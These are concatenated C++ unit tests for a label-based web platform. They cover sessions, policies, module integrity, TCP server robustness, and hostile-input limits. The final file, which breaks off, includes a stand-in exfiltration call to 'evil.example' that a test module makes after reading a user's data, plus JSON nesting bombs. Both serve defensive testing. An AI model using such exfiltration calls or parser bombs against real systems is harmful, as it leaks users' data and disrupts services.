  EXPECT_EQ(sessions.validate(token), "bob");  // still alive thanks to refresh
  clock.advance(1001);
  EXPECT_FALSE(sessions.validate(token).has_value());
  EXPECT_EQ(sessions.live_sessions(), 0u);
}

TEST(SessionManagerTest, RevokeAllEndsEverySession) {
  util::SimClock clock;
  SessionManager sessions(clock, 1000);
  const auto t1 = sessions.create("bob");
  const auto t2 = sessions.create("bob");
  const auto t3 = sessions.create("amy");
  sessions.revoke_all("bob");
  EXPECT_FALSE(sessions.validate(t1).has_value());
  EXPECT_FALSE(sessions.validate(t2).has_value());
  EXPECT_EQ(sessions.validate(t3), "amy");
}

TEST(SessionManagerTest, TokensAreUnique) {
  util::SimClock clock;
  SessionManager sessions(clock, 1000);
  std::set<std::string> tokens;
  for (int i = 0; i < 100; ++i) tokens.insert(sessions.create("bob"));
  EXPECT_EQ(tokens.size(), 100u);
}

TEST(PolicyTest, DefaultsAndPredicates) {
  UserPolicy policy;
  EXPECT_EQ(policy.secrecy_declassifier, "std/owner-only");
  EXPECT_FALSE(policy.grants_write("devA/crop"));
  policy.write_grants.push_back("devA/crop");
  policy.read_grants.push_back("devB/secrets");
  policy.private_collections.push_back("diary");
  EXPECT_TRUE(policy.grants_write("devA/crop"));
  EXPECT_FALSE(policy.grants_write("devA/other"));
  EXPECT_TRUE(policy.grants_read("devB/secrets"));
  EXPECT_TRUE(policy.is_private_collection("diary"));
  EXPECT_FALSE(policy.is_private_collection("photos"));
}

TEST(PolicyTest, JsonRoundTrip) {
  UserPolicy policy;
  policy.secrecy_declassifier = "std/friends";
  policy.write_grants = {"devA/crop", "devB/edit"};
  policy.read_grants = {"devC/vault"};
  policy.private_collections = {"diary"};
  policy.version_pins["devA/crop"] = "2.1";
  auto parsed = UserPolicy::from_json(policy.to_json());
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value().secrecy_declassifier, "std/friends");
  EXPECT_EQ(parsed.value().write_grants, policy.write_grants);
  EXPECT_EQ(parsed.value().read_grants, policy.read_grants);
  EXPECT_EQ(parsed.value().private_collections, policy.private_collections);
  EXPECT_EQ(parsed.value().version_pins.at("devA/crop"), "2.1");
}

TEST(PolicyTest, FromJsonRejectsMalformed) {
  EXPECT_FALSE(UserPolicy::from_json(util::Json("str")).ok());
  EXPECT_FALSE(
      UserPolicy::from_json(util::Json::parse(R"({"declassifier":7})").value())
          .ok());
  EXPECT_FALSE(UserPolicy::from_json(
                   util::Json::parse(R"({"write_grants":"x"})").value())
                   .ok());
  EXPECT_FALSE(UserPolicy::from_json(
                   util::Json::parse(R"({"write_grants":[3]})").value())
                   .ok());
  EXPECT_FALSE(UserPolicy::from_json(
                   util::Json::parse(R"({"version_pins":{"a":1}})").value())
                   .ok());
  // Unknown keys are tolerated (forward compatibility).
  EXPECT_TRUE(UserPolicy::from_json(
                  util::Json::parse(R"({"future_field":true})").value())
                  .ok());
}

TEST(PolicyStoreTest, GetReturnsDefaultUntilSet) {
  PolicyStore store;
  EXPECT_EQ(store.get("bob").secrecy_declassifier, "std/owner-only");
  UserPolicy policy;
  policy.secrecy_declassifier = "std/friends";
  store.set("bob", policy);
  EXPECT_EQ(store.get("bob").secrecy_declassifier, "std/friends");
  EXPECT_EQ(store.get("amy").secrecy_declassifier, "std/owner-only");
}

}  // namespace
}  // namespace w5::platform
