// §3.1 integrity protection: "Bob can authorize an application to act on
// his behalf only if all of its components (such as its libraries and
// configuration files) are meritorious."
#include <gtest/gtest.h>

#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::HttpResponse;
using net::Method;

class IntegrityProtectionTest : public ::testing::Test {
 protected:
  IntegrityProtectionTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    bob_ = provider_.login("bob", "bobpw").value();
    ASSERT_EQ(provider_.http(Method::kPost, "/data/notes/n1",
                             R"({"text":"original"})", bob_).status,
              201);

    // A library module and an editor app importing it.
    Module lib;
    lib.developer = "devL";
    lib.name = "lib";
    lib.version = "1.0";
    lib.manifest.open_source = true;
    lib.manifest.source = "library source";
    lib.handler = [](AppContext&) { return HttpResponse::text(200, "lib"); };
    ASSERT_TRUE(provider_.modules().add(lib).ok());

    Module editor;
    editor.developer = "devE";
    editor.name = "edit";
    editor.version = "1.0";
    editor.manifest.open_source = true;
    editor.manifest.source = "editor source";
    editor.manifest.imports = {"devL/lib@1.0"};
    editor.handler = [](AppContext& ctx) {
      auto record = ctx.get_record("notes", "n1");
      if (!record.ok()) return HttpResponse::text(404, "no note");
      record.value().data["text"] = "edited";
      auto written = ctx.put_record(record.value());
      return written.ok() ? HttpResponse::text(200, "saved")
                          : HttpResponse::text(403, written.error().code);
    };
    ASSERT_TRUE(provider_.modules().add(editor).ok());

    editor_fingerprint_ =
        provider_.modules().resolve("devE", "edit")->fingerprint;
    lib_fingerprint_ =
        provider_.modules().resolve("devL", "lib")->fingerprint;
  }

  util::Status set_policy(const std::vector<std::string>& fingerprints) {
    util::Json policy;
    policy["write_grants"] = util::Json::array({"devE/edit"});
    util::Json trusted = util::Json::array();
    for (const auto& fingerprint : fingerprints)
      trusted.push_back(fingerprint);
    policy["trusted_fingerprints"] = std::move(trusted);
    const auto response =
        provider_.http(Method::kPost, "/policy", policy.dump(), bob_);
    if (response.status != 200)
      return util::make_error("test", response.body);
    return util::ok_status();
  }

  int try_edit() {
    return provider_.http(Method::kGet, "/dev/devE/edit", "", bob_).status;
  }

  util::SimClock clock_;
  Provider provider_;
  std::string bob_;
  std::string editor_fingerprint_;
  std::string lib_fingerprint_;
};

TEST_F(IntegrityProtectionTest, EmptyListMeansFeatureOff) {
  ASSERT_TRUE(set_policy({}).ok());
  EXPECT_EQ(try_edit(), 200);  // ordinary write grant applies
}

TEST_F(IntegrityProtectionTest, UnauditedModuleGetsNoGrants) {
  // Bob audits only the library, not the editor itself.
  ASSERT_TRUE(set_policy({lib_fingerprint_}).ok());
  EXPECT_EQ(try_edit(), 403);  // write grant withheld
  // The platform recorded why.
  bool noted = false;
  for (const auto& event : provider_.audit().events()) {
    if (event.subject == "integrity-protection") noted = true;
  }
  EXPECT_TRUE(noted);
}

TEST_F(IntegrityProtectionTest, UnauditedImportAlsoBlocks) {
  // Bob audits the editor but not its imported library: the component
  // rule fails closed.
  ASSERT_TRUE(set_policy({editor_fingerprint_}).ok());
  EXPECT_EQ(try_edit(), 403);
}

TEST_F(IntegrityProtectionTest, FullyAuditedStackWorks) {
  ASSERT_TRUE(set_policy({editor_fingerprint_, lib_fingerprint_}).ok());
  EXPECT_EQ(try_edit(), 200);
  EXPECT_EQ(provider_.store()
                .get(os::kKernelPid, "notes", "n1").value()
                .data.at("text").as_string(),
            "edited");
}

TEST_F(IntegrityProtectionTest, NewVersionRequiresFreshAudit) {
  ASSERT_TRUE(set_policy({editor_fingerprint_, lib_fingerprint_}).ok());
  ASSERT_EQ(try_edit(), 200);

  // devE ships 2.0 with different source: different fingerprint.
  Module editor2;
  editor2.developer = "devE";
  editor2.name = "edit";
  editor2.version = "2.0";
  editor2.manifest.open_source = true;
  editor2.manifest.source = "editor source v2 (maybe trojaned)";
  editor2.manifest.imports = {"devL/lib@1.0"};
  editor2.handler = [](AppContext& ctx) {
    auto record = ctx.get_record("notes", "n1");
    if (!record.ok()) return HttpResponse::text(404, "no note");
    record.value().data["text"] = "v2 was here";
    auto written = ctx.put_record(record.value());
    return written.ok() ? HttpResponse::text(200, "saved")
                        : HttpResponse::text(403, written.error().code);
  };
  ASSERT_TRUE(provider_.modules().add(editor2).ok());

  // Latest resolves to 2.0, whose fingerprint bob has NOT audited.
  EXPECT_EQ(try_edit(), 403);
  // Pinning back to the audited 1.0 restores service (§2: version choice).
  util::Json policy;
  policy["write_grants"] = util::Json::array({"devE/edit"});
  policy["trusted_fingerprints"] =
      util::Json::array({editor_fingerprint_, lib_fingerprint_});
  util::Json pins;
  pins["devE/edit"] = "1.0";
  policy["version_pins"] = std::move(pins);
  ASSERT_EQ(provider_.http(Method::kPost, "/policy", policy.dump(), bob_)
                .status,
            200);
  EXPECT_EQ(try_edit(), 200);
}

TEST_F(IntegrityProtectionTest, PolicyRoundTripsFingerprints) {
  ASSERT_TRUE(set_policy({editor_fingerprint_}).ok());
  const auto stored = provider_.http(Method::kGet, "/policy", "", bob_);
  EXPECT_NE(stored.body.find(editor_fingerprint_), std::string::npos);
  auto parsed = UserPolicy::from_json(util::Json::parse(stored.body).value());
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value().trusted_fingerprints.size(), 1u);
}

}  // namespace
}  // namespace w5::platform
