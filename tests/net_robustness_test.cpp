// Robustness over real TCP sockets (DESIGN.md §12): slow-client reaping
// under header/body deadlines, write-timeout reaping of never-draining
// receivers, admission-control shedding with 503 + Retry-After, and the
// listener error-path regressions (fd leaks, errno fidelity).
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <dirent.h>
#include <mutex>
#include <string>
#include <thread>

#include "net/http_client.h"
#include "net/http_server.h"
#include "net/tcp.h"
#include "os/thread_pool.h"
#include "util/clock.h"

namespace w5::net {
namespace {

using namespace std::chrono_literals;

// Open fds for this process — the leak detector for listener tests.
int open_fd_count() {
  int count = 0;
  DIR* dir = opendir("/proc/self/fd");
  if (dir == nullptr) return -1;
  while (readdir(dir) != nullptr) ++count;
  closedir(dir);
  return count;
}

HttpResponse echo_handler(const HttpRequest& request) {
  return HttpResponse::text(200, "echo:" + request.body);
}

// Reads one full HTTP response off a raw connection (blocking reads).
util::Result<HttpResponse> read_response(Connection& connection) {
  ResponseParser parser;
  char buf[4096];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) return n.error();
    if (n.value() == 0) break;
    parser.feed(std::string_view(buf, n.value()));
  }
  if (parser.failed()) return parser.error();
  if (!parser.complete())
    return util::make_error("http.incomplete", "EOF before full response");
  return parser.take();
}

// Serves exactly the accepted connections of one listener on one thread
// with the given options, for deadline tests that need a real socket.
class OneShotServer {
 public:
  explicit OneShotServer(ServerOptions options, ServerStats* stats = nullptr)
      : server_(echo_handler, ParserLimits{}, options, stats) {
    EXPECT_TRUE(listener_.listen(0).ok());
    thread_ = std::thread([this] {
      while (true) {
        auto accepted = listener_.accept();
        if (!accepted.ok()) return;
        server_.serve(*accepted.value());
      }
    });
  }

  ~OneShotServer() {
    listener_.close();
    (void)tcp_connect(listener_.port());  // poke accept() loose
    thread_.join();
  }

  std::uint16_t port() const { return listener_.port(); }

 private:
  HttpServer server_;
  TcpListener listener_;
  std::thread thread_;
};

TEST(NetRobustness, SlowHeaderClientIsReapedWithin408) {
  ServerStats stats;
  OneShotServer server(
      ServerOptions{.header_deadline_micros = 150'000,
                    .write_timeout_micros = 500'000,
                    .io_poll_micros = 10'000},
      &stats);
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  // Half a request line, then silence: the server must reap us with a
  // 408 rather than parking a worker forever.
  ASSERT_TRUE(client.value()->write("GET /slow HT").ok());
  const auto started = std::chrono::steady_clock::now();
  auto response = read_response(*client.value());
  const auto elapsed = std::chrono::steady_clock::now() - started;
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 408);
  EXPECT_EQ(response.value().headers.get("Connection"), "close");
  // "Within the deadline": poll quantum + deadline + slack, far below
  // a blocking-forever hang.
  EXPECT_LT(elapsed, 2s);
  EXPECT_GE(stats.reaped_total.load(), 1u);

  // The worker is free again: a well-formed request succeeds promptly.
  auto healthy = tcp_connect(server.port());
  ASSERT_TRUE(healthy.ok());
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/ok";
  request.body = "after-reap";
  request.headers.set("Connection", "close");
  HttpClient http;
  auto ok = http.roundtrip(*healthy.value(), request);
  ASSERT_TRUE(ok.ok()) << ok.error().code;
  EXPECT_EQ(ok.value().body, "echo:after-reap");
}

TEST(NetRobustness, StalledBodyIsReaped) {
  ServerStats stats;
  OneShotServer server(
      ServerOptions{.header_deadline_micros = 500'000,
                    .body_deadline_micros = 150'000,
                    .write_timeout_micros = 500'000,
                    .io_poll_micros = 10'000},
      &stats);
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  // Complete headers declaring a body that never arrives in full.
  ASSERT_TRUE(client.value()
                  ->write("POST /upload HTTP/1.1\r\nContent-Length: "
                          "1000\r\n\r\npartial")
                  .ok());
  auto response = read_response(*client.value());
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 408);
  EXPECT_GE(stats.reaped_total.load(), 1u);
  EXPECT_GE(stats.timeouts_total.load(), 1u);
}

TEST(NetRobustness, IdleKeepAliveConnectionIsClosedWithout408) {
  ServerStats stats;
  OneShotServer server(ServerOptions{.header_deadline_micros = 100'000,
                                     .io_poll_micros = 10'000},
                       &stats);
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  // Send nothing at all. The idle connection is reaped silently: EOF,
  // no 408 (nothing was asked, nothing is owed).
  char buf[64];
  auto n = client.value()->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok()) << n.error().code;
  EXPECT_EQ(n.value(), 0u);  // clean EOF
  EXPECT_GE(stats.reaped_total.load(), 1u);
}

TEST(NetRobustness, WriteTimeoutReapsNeverDrainingReceiver) {
  TcpListener listener;
  ASSERT_TRUE(listener.listen(0).ok());
  auto client = tcp_connect(listener.port());
  ASSERT_TRUE(client.ok());
  auto accepted = listener.accept();
  ASSERT_TRUE(accepted.ok());

  // The client never reads. A large enough write must overrun both
  // kernel buffers and then time out rather than block forever.
  accepted.value()->set_write_timeout(200'000);
  const std::string chunk(1 << 20, 'x');  // 1 MiB per write call
  util::Status last = util::ok_status();
  for (int i = 0; i < 64 && last.ok(); ++i)
    last = accepted.value()->write(chunk);
  ASSERT_FALSE(last.ok()) << "64 MiB fit in socket buffers?";
  EXPECT_EQ(last.error().code, "net.timeout");
  listener.close();
}

TEST(NetRobustness, SlowlyDrainedLargeWriteStillCompletes) {
  // The EAGAIN bugfix: a full send buffer with a *live* (slow) reader
  // must poll-and-continue, not fail with net.io.
  TcpListener listener;
  ASSERT_TRUE(listener.listen(0).ok());
  auto client = tcp_connect(listener.port());
  ASSERT_TRUE(client.ok());
  auto accepted = listener.accept();
  ASSERT_TRUE(accepted.ok());

  const std::size_t total = 8 << 20;  // well past any default buffer
  std::thread reader([&] {
    char buf[64 * 1024];
    std::size_t drained = 0;
    while (drained < total) {
      std::this_thread::sleep_for(1ms);  // deliberately sluggish
      auto n = client.value()->read(buf, sizeof(buf));
      if (!n.ok() || n.value() == 0) break;
      drained += n.value();
    }
    EXPECT_EQ(drained, total);
  });
  accepted.value()->set_write_timeout(5'000'000);  // generous, not infinite
  EXPECT_TRUE(accepted.value()->write(std::string(total, 'y')).ok());
  reader.join();
  listener.close();
}

TEST(NetRobustness, OverloadShedsWith503AndRetryAfter) {
  // 1 worker, queue of 1: the third concurrent connection must shed.
  os::ThreadPool pool(1, 1);
  ServerStats stats;
  std::mutex mutex;
  std::condition_variable cv;
  bool release = false;
  PooledHttpServer server(
      [&](const HttpRequest& request) {
        if (request.parsed.path == "/block") {
          std::unique_lock lock(mutex);
          cv.wait(lock, [&] { return release; });
        }
        return HttpResponse::text(200, "done");
      },
      [&pool](std::function<void()> job) {
        return pool.try_submit(std::move(job));
      },
      ParserLimits{}, ServerOptions{.retry_after_seconds = 7}, &stats);

  TcpListener listener;
  ASSERT_TRUE(listener.listen(0).ok());
  std::thread accept_thread([&] { server.serve(listener); });

  const auto send_blocking_request =
      [&]() -> std::unique_ptr<Connection> {
    auto connection = tcp_connect(listener.port());
    EXPECT_TRUE(connection.ok());
    if (!connection.ok()) return nullptr;
    HttpRequest request;
    request.target = "/block";
    request.headers.set("Connection", "close");
    EXPECT_TRUE(connection.value()->write(request.to_wire()).ok());
    return std::move(connection).value();
  };
  // Fill the worker first (wait until its job is actually *running*, so
  // the next job queues instead of racing for the same worker)...
  auto busy1 = send_blocking_request();
  ASSERT_NE(busy1, nullptr);
  for (int i = 0; i < 2000 && pool.active() < 1; ++i)
    std::this_thread::sleep_for(1ms);
  ASSERT_EQ(pool.active(), 1u);
  // ...then the queue.
  auto busy2 = send_blocking_request();
  ASSERT_NE(busy2, nullptr);
  for (int i = 0; i < 2000 && pool.pending() < 1; ++i)
    std::this_thread::sleep_for(1ms);
  ASSERT_EQ(pool.pending(), 1u);

  auto shed = tcp_connect(listener.port());
  ASSERT_TRUE(shed.ok());
  auto response = read_response(*shed.value());
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 503);
  EXPECT_EQ(response.value().headers.get("Retry-After"), "7");
  EXPECT_EQ(stats.shed_total.load(), 1u);
  EXPECT_EQ(pool.jobs_rejected(), 1u);

  {
    std::lock_guard lock(mutex);
    release = true;
  }
  cv.notify_all();
  auto r1 = read_response(*busy1);
  auto r2 = read_response(*busy2);
  EXPECT_TRUE(r1.ok() && r1.value().status == 200);
  EXPECT_TRUE(r2.ok() && r2.value().status == 200);

  listener.close();
  (void)tcp_connect(listener.port());
  accept_thread.join();
  pool.shutdown();
}

TEST(NetRobustness, ListenFailurePathsLeakNoFds) {
  TcpListener occupant;
  ASSERT_TRUE(occupant.listen(0).ok());
  const std::uint16_t busy_port = occupant.port();

  const int before = open_fd_count();
  ASSERT_GT(before, 0);
  for (int i = 0; i < 20; ++i) {
    TcpListener contender;
    auto status = contender.listen(busy_port);
    ASSERT_FALSE(status.ok()) << "port " << busy_port << " double-bound";
    EXPECT_EQ(status.error().code, "net.io");
    // The errno text survives the cleanup close (the captured-before-
    // close regression): "bind: <reason>", not "bind: Success".
    EXPECT_NE(status.error().detail.find("bind"), std::string::npos);
    EXPECT_EQ(status.error().detail.find("Success"), std::string::npos);
  }
  EXPECT_EQ(open_fd_count(), before);

  // A listener that failed can retry on a free port with no leak...
  TcpListener retrying;
  ASSERT_FALSE(retrying.listen(busy_port).ok());
  ASSERT_TRUE(retrying.listen(0).ok());
  // ...and re-listening an already-listening listener must close the
  // old socket rather than leak it.
  const int mid = open_fd_count();
  ASSERT_TRUE(retrying.listen(0).ok());
  EXPECT_EQ(open_fd_count(), mid);
  retrying.close();
  occupant.close();
}

TEST(NetRobustness, ReadTimeoutOnQuietSocketIsDistinctError) {
  TcpListener listener;
  ASSERT_TRUE(listener.listen(0).ok());
  auto client = tcp_connect(listener.port());
  ASSERT_TRUE(client.ok());
  auto accepted = listener.accept();
  ASSERT_TRUE(accepted.ok());

  client.value()->set_read_timeout(50'000);
  char buf[16];
  auto n = client.value()->read(buf, sizeof(buf));
  ASSERT_FALSE(n.ok());
  EXPECT_EQ(n.error().code, "net.timeout");  // not net.io, not would_block

  // Clearing the timeout (0) restores blocking reads: data arrives.
  client.value()->set_read_timeout(0);
  ASSERT_TRUE(accepted.value()->write("late").ok());
  n = client.value()->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(std::string(buf, n.value()), "late");
  listener.close();
}

}  // namespace
}  // namespace w5::net
