// Hostile-input and resource-exhaustion robustness: JSON nesting bombs,
// audit-log flooding, session-table growth.
#include <gtest/gtest.h>

#include "core/audit.h"
#include "core/auth.h"
#include "util/json.h"

namespace w5 {
namespace {

TEST(JsonRobustnessTest, DeepNestingIsRejectedNotCrashed) {
  // A classic parser bomb: 100k-deep array must fail cleanly.
  std::string bomb;
  for (int i = 0; i < 100000; ++i) bomb += "[";
  for (int i = 0; i < 100000; ++i) bomb += "]";
  auto result = util::Json::parse(bomb);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().code, "json.parse");
  EXPECT_NE(result.error().detail.find("nesting"), std::string::npos);

  // Same for objects.
  std::string object_bomb;
  for (int i = 0; i < 100000; ++i) object_bomb += R"({"a":)";
  object_bomb += "1";
  for (int i = 0; i < 100000; ++i) object_bomb += "}";
  EXPECT_FALSE(util::Json::parse(object_bomb).ok());
}

TEST(JsonRobustnessTest, ReasonableNestingStillParses) {
  std::string nested;
  for (int i = 0; i < 100; ++i) nested += "[";
  nested += "1";
  for (int i = 0; i < 100; ++i) nested += "]";
  EXPECT_TRUE(util::Json::parse(nested).ok());
}

TEST(AuditRobustnessTest, FloodDropsOldestHalfNotTheProcess) {
  util::SimClock clock;
  platform::AuditLog audit(clock, /*max_events=*/100);
  for (int i = 0; i < 250; ++i) {
    audit.record(platform::AuditKind::kExportBlocked, "attacker",
                 "flood", std::to_string(i));
  }
  EXPECT_LE(audit.events().size(), 100u);
  EXPECT_GT(audit.dropped(), 0u);
  // The newest events survive.
  EXPECT_EQ(audit.events().back().detail, "249");
}

TEST(SessionRobustnessTest, AbandonedSessionsArePurged) {
  util::SimClock clock;
  platform::SessionManager sessions(clock, /*ttl=*/100);
  for (int i = 0; i < 50; ++i) sessions.create("bob");
  EXPECT_EQ(sessions.live_sessions(), 50u);
  clock.advance(101);  // all expired, none revisited
  (void)sessions.create("bob");  // housekeeping runs here
  EXPECT_EQ(sessions.live_sessions(), 1u);
}

}  // namespace
}  // namespace w5
