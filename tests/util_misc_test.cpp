#include <gtest/gtest.h>

#include <set>

#include "util/clock.h"
#include "util/log.h"
#include "util/result.h"
#include "util/rng.h"
#include "util/strings.h"

namespace w5::util {
namespace {

TEST(StringsTest, Split) {
  EXPECT_EQ(split("a,b,c", ','), (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_EQ(split("", ','), (std::vector<std::string>{""}));
  EXPECT_EQ(split("a,,b", ','), (std::vector<std::string>{"a", "", "b"}));
  EXPECT_EQ(split_nonempty("/a//b/", '/'),
            (std::vector<std::string>{"a", "b"}));
}

TEST(StringsTest, Trim) {
  EXPECT_EQ(trim("  x  "), "x");
  EXPECT_EQ(trim("\r\n\tx"), "x");
  EXPECT_EQ(trim(""), "");
  EXPECT_EQ(trim("   "), "");
}

TEST(StringsTest, CaseHelpers) {
  EXPECT_EQ(to_lower("Content-TYPE"), "content-type");
  EXPECT_TRUE(iequals("Host", "hOST"));
  EXPECT_FALSE(iequals("Host", "Hosts"));
  EXPECT_TRUE(starts_with("w5.org/devA/crop", "w5.org"));
  EXPECT_TRUE(ends_with("photo.jpg", ".jpg"));
  EXPECT_FALSE(ends_with("jpg", "photo.jpg"));
}

TEST(StringsTest, Join) {
  EXPECT_EQ(join({"a", "b"}, ", "), "a, b");
  EXPECT_EQ(join({}, ","), "");
}

TEST(StringsTest, ParseI64) {
  EXPECT_EQ(parse_i64("123"), 123);
  EXPECT_EQ(parse_i64("-7"), -7);
  EXPECT_EQ(parse_i64("+9"), 9);
  EXPECT_FALSE(parse_i64("").has_value());
  EXPECT_FALSE(parse_i64("12x").has_value());
  EXPECT_FALSE(parse_i64("-").has_value());
  EXPECT_FALSE(parse_i64("99999999999999999999").has_value());  // overflow
  EXPECT_EQ(parse_u64("18446744073709551615"), UINT64_MAX);
  EXPECT_FALSE(parse_u64("18446744073709551616").has_value());
  EXPECT_FALSE(parse_u64("-1").has_value());
}

TEST(StringsTest, ReplaceAll) {
  EXPECT_EQ(replace_all("a.b.c", ".", "::"), "a::b::c");
  EXPECT_EQ(replace_all("aaa", "aa", "b"), "ba");
  EXPECT_EQ(replace_all("x", "", "y"), "x");
}

TEST(ResultTest, SuccessAndError) {
  Result<int> ok_result(5);
  EXPECT_TRUE(ok_result.ok());
  EXPECT_EQ(ok_result.value(), 5);
  EXPECT_EQ(ok_result.value_or(9), 5);

  Result<int> err_result(make_error("flow.denied", "S not subset"));
  EXPECT_FALSE(err_result.ok());
  EXPECT_EQ(err_result.error().code, "flow.denied");
  EXPECT_EQ(err_result.value_or(9), 9);
}

TEST(ResultTest, MapPropagatesErrors) {
  Result<int> err_result(make_error("e"));
  auto mapped = err_result.map([](int v) { return v * 2; });
  EXPECT_FALSE(mapped.ok());
  EXPECT_EQ(mapped.error().code, "e");
  Result<int> ok_result(21);
  EXPECT_EQ(ok_result.map([](int v) { return v * 2; }).value(), 42);
}

TEST(ResultTest, VoidStatus) {
  Status s = ok_status();
  EXPECT_TRUE(s.ok());
  Status denied = make_error("quota.exceeded");
  EXPECT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "quota.exceeded");
}

TEST(RngTest, DeterministicForSameSeed) {
  Rng a(42), b(42), c(43);
  EXPECT_EQ(a.next_u64(), b.next_u64());
  EXPECT_NE(a.next_u64(), c.next_u64());
  Rng d(1), e(1);
  EXPECT_EQ(d.next_string(20), e.next_string(20));
}

TEST(RngTest, NextBelowStaysInRange) {
  Rng rng(7);
  for (int i = 0; i < 10000; ++i) {
    EXPECT_LT(rng.next_below(17), 17u);
    const auto v = rng.next_range(-5, 5);
    EXPECT_GE(v, -5);
    EXPECT_LE(v, 5);
  }
}

TEST(RngTest, DoubleIsInUnitInterval) {
  Rng rng(11);
  for (int i = 0; i < 10000; ++i) {
    const double d = rng.next_double();
    EXPECT_GE(d, 0.0);
    EXPECT_LT(d, 1.0);
  }
}

TEST(RngTest, NextBelowIsRoughlyUniform) {
  Rng rng(3);
  int counts[10] = {};
  constexpr int kDraws = 100000;
  for (int i = 0; i < kDraws; ++i) ++counts[rng.next_below(10)];
  for (int count : counts) {
    EXPECT_GT(count, kDraws / 10 * 0.9);
    EXPECT_LT(count, kDraws / 10 * 1.1);
  }
}

TEST(RngTest, ShufflePreservesElements) {
  Rng rng(5);
  std::vector<int> v{1, 2, 3, 4, 5, 6, 7, 8};
  auto sorted = v;
  rng.shuffle(v);
  std::sort(v.begin(), v.end());
  EXPECT_EQ(v, sorted);
}

TEST(ZipfTest, SkewFavorsLowRanks) {
  ZipfGenerator zipf(100, 1.0, 9);
  int first_decile = 0;
  constexpr int kDraws = 20000;
  for (int i = 0; i < kDraws; ++i)
    if (zipf.next() < 10) ++first_decile;
  // With s=1, n=100 the first 10 ranks carry ~56% of the mass.
  EXPECT_GT(first_decile, kDraws / 2 * 0.9);
}

TEST(ZipfTest, StaysInRange) {
  ZipfGenerator zipf(7, 1.5, 1);
  for (int i = 0; i < 1000; ++i) EXPECT_LT(zipf.next(), 7u);
}

TEST(ClockTest, SimClockAdvancesManually) {
  SimClock clock;
  EXPECT_EQ(clock.now(), 0);
  clock.advance(250);
  EXPECT_EQ(clock.now(), 250);
  clock.set(1000);
  EXPECT_EQ(clock.now(), 1000);
}

TEST(ClockTest, WallClockIsMonotonic) {
  WallClock clock;
  const auto a = clock.now();
  const auto b = clock.now();
  EXPECT_LE(a, b);
}

TEST(LogTest, SinkReceivesMessagesAboveThreshold) {
  std::vector<std::string> captured;
  auto previous = set_log_sink([&](LogLevel level, std::string_view message) {
    captured.push_back(std::string(to_string(level)) + ":" +
                       std::string(message));
  });
  set_log_threshold(LogLevel::kInfo);
  log_debug("dropped");
  log_info("kept ", 42);
  log_error("bad: ", "detail");
  set_log_sink(previous);
  set_log_threshold(LogLevel::kWarn);
  ASSERT_EQ(captured.size(), 2u);
  EXPECT_EQ(captured[0], "info:kept 42");
  EXPECT_EQ(captured[1], "error:bad: detail");
}

}  // namespace
}  // namespace w5::util
