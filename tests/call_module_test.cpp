// Inter-module composition (paper §1/§2: users pick modules from
// different developers; the platform API includes communication between
// modules). The crucial property: a module *call* shares the caller's
// process, so labels flow through composition and the perimeter judges
// the combined result.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::HttpResponse;
using net::Method;

class CallModuleTest : public ::testing::Test {
 protected:
  CallModuleTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    apps::register_standard_apps(provider_);
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    ASSERT_TRUE(provider_.signup("eve", "evepw").ok());
    bob_ = provider_.login("bob", "bobpw").value();
    eve_ = provider_.login("eve", "evepw").value();
    ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/p1",
                             R"({"title":"bob's photo","caption":"",
                                 "rating":5,"pixels":["abcd","efgh"]})",
                             bob_).status,
              201);
  }

  void add_module(const std::string& name, AppHandler handler) {
    Module module;
    module.developer = "devX";
    module.name = name;
    module.version = "1.0";
    module.handler = std::move(handler);
    ASSERT_TRUE(provider_.modules().add(module).ok());
  }

  util::SimClock clock_;
  Provider provider_;
  std::string bob_, eve_;
};

TEST_F(CallModuleTest, ComposesAnotherDevelopersModule) {
  // A "gallery" module that renders via photoco's viewer.
  add_module("gallery", [](AppContext& ctx) {
    auto inner = ctx.call_module("photoco", "photos", "view",
                                 "id=" + ctx.query_param("id"));
    if (!inner.ok()) return HttpResponse::text(500, inner.error().code);
    return HttpResponse::html(200, "<div class=frame>" +
                                       inner.value().body + "</div>");
  });
  const auto response =
      provider_.http(Method::kGet, "/dev/devX/gallery?id=p1", "", bob_);
  EXPECT_EQ(response.status, 200) << response.body;
  EXPECT_NE(response.body.find("bob's photo"), std::string::npos);
  EXPECT_NE(response.body.find("frame"), std::string::npos);
}

TEST_F(CallModuleTest, ContaminationFlowsThroughComposition) {
  // The outer module never touches the store itself, but its callee
  // does; the label sticks to the shared process, and the perimeter
  // still blocks eve.
  add_module("gallery", [](AppContext& ctx) {
    auto inner = ctx.call_module("photoco", "photos", "view", "id=p1");
    return HttpResponse::text(200,
                              inner.ok() ? inner.value().body : "none");
  });
  const auto blocked =
      provider_.http(Method::kGet, "/dev/devX/gallery", "", eve_);
  EXPECT_EQ(blocked.status, 403);
  EXPECT_EQ(blocked.body.find("bob's photo"), std::string::npos);
  // And the outer module cannot fetch externally after the call.
  add_module("leaky", [](AppContext& ctx) {
    (void)ctx.call_module("photoco", "photos", "view", "id=p1");
    auto out = ctx.fetch_external("evil.example/?x=");
